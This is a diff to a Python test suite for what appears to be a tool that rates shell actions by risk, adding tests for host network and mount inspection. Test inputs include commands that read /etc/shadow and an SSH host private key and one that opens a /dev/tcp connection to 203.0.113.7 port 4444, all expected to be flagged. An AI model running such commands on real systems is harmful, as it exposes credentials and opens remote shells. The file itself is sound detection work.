@@ -90,6 +90,35 @@ class BuiltIn(PolicyCase):
         if table is not None:
             self.judged(f"head -c 1 {table}; exit 0", YELLOW, "priv.look-by-other", not_rules=("priv.attempt", "priv.kernel-attempt"))
 
+    def test_what_shows_the_run_and_not_this_host(self) -> None:
+        """Nothing fails where the run has a network, a mount table, a /dev of its own: what an action makes of them is its own, too."""
+        for script, gap in (
+            ("ip route | grep -q default || touch /tmp/wrong", "network configuration of this host: "), ("hostname -I | grep -q . || touch /tmp/wrong", "network configuration of this host: interfaces (hostname)"),
+            ("grep -q eth0 /proc/net/dev || touch /tmp/wrong", "network configuration of this host: /proc/net/dev (grep)"), ("cat /proc/sys/net/ipv4/ip_forward", "network configuration of this host: /proc/sys/net/ipv4/ip_forward (cat)"),
+            ("ls /sys/class/net | grep -q eth0 || touch /tmp/wrong", "listed, and other things lie there on this host: /sys/class/net (ls)"), ("ls /proc/sys/net/ipv4/conf", "listed, and other things lie there on this host: /proc/sys/net/ipv4/conf (ls)"),
+            ("grep -q :07E8 /proc/net/tcp || touch /tmp/wrong", "sockets of this host: /proc/net/tcp (grep)"), ("findmnt -no FSTYPE / | grep -q ext4 || touch /tmp/wrong", "mount table of this host: /proc/self/mountinfo (findmnt)"),
+            ("mount | grep -q ext4 || touch /tmp/wrong", "mount table of this host: "), ("grep -q cgroup /proc/mounts || touch /tmp/wrong", "mount table of this host: /proc/self/mounts (grep)"),
+            ("stat -f -c %T /", "kinds of this host's filesystems: stat -f (stat)"), ("ls /sys/fs/cgroup", "listed, and other things lie there on this host: /sys/fs/cgroup (ls)"), ("ls /proc /dev /dev/shm", "listed, and other things lie there on this host: /dev (ls), /dev/shm (ls), /proc (ls)"),
+            ("test -w /sys/kernel/mm/transparent_hugepage/enabled", "asked for leave to write, which root of this host has: /sys/kernel/mm/transparent_hugepage/enabled ("),
+        ):
+            with self.subTest(script):
+                harness.need(script.split()[0])
+                result = self.judged(f"{script}; exit 0", YELLOW, "core.fidelity")
+                self.assertTrue([row for row in result.doc["fidelity"]["gaps"] if row["what"].startswith(gap) and row["cap"] == "yellow"], result.doc["fidelity"]["gaps"])
+        for script in ("getent hosts localhost; df /; ls /dev/pts /proc/sys; dpkg -l dpkg; python3 -c 'import os; os.statvfs(\"/\")'; find /etc -maxdepth 1", "cat /proc/self/status /proc/meminfo /proc/cpuinfo"):
+            with self.subTest(script):
+                self.judged(f"({script}) >/dev/null; exit 0", GREEN, "safe.no-effects")
+        harness.need("ip")
+        for options, shown in (((), True), (("--network-mirror",), False)):
+            gaps = self.run_in(["sh", "-c", "ip link; cat /proc/net/route"], *options).doc["fidelity"]["gaps"]
+            self.assertEqual(any(row["what"].startswith("network configuration of this host") for row in gaps), shown, gaps)
+
+    def test_links_into_the_kernel_are_not_changed_by_anybody(self) -> None:
+        if not os.path.islink("/etc/mtab"):
+            harness.skip("/etc/mtab is no link")
+        result = self.judged("stat -L /etc/mtab", GREEN, "safe.no-effects")
+        self.assertEqual(result.doc["reads"]["moved"], [])
+
     def test_credentials_of_services_are_shown_empty(self) -> None:
         """Every host that runs systemd has some: that alone is no reason to ask a person; to look into them is."""
         for script, code, gap in (
@@ -226,9 +255,9 @@ class BuiltIn(PolicyCase):
     def test_secret_then_network(self) -> None:
         harness.need("bash")
         self.judged("cat /etc/shadow > /dev/null", YELLOW, "secret.read")
-        if os.path.exists("/etc/ssh/ssh_host_rsa_key"):  # shown empty: what it would have done with the key is not known
+        if os.path.exists("/etc/ssh/ssh_host_rsa_key"):  # masked: what it would have done with the key is not known
             masked = self.judged("cat /etc/ssh/ssh_host_rsa_key; exit 0", YELLOW, "secret.read", "core.fidelity")
-            self.assertIn("read though shown empty: /etc/ssh/ssh_host_rsa_key", [gap["what"] for gap in masked.doc["fidelity"]["gaps"]])
+            self.assertIn("read though masked: /etc/ssh/ssh_host_rsa_key", [gap["what"] for gap in masked.doc["fidelity"]["gaps"]])
         self.judged("cat /etc/shadow > /dev/null; getent hosts example.com; exit 0", RED, "secret.passwords-then-connect")
         self.judged("bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444'; exit 0", RED, "net.shell-connects")
 
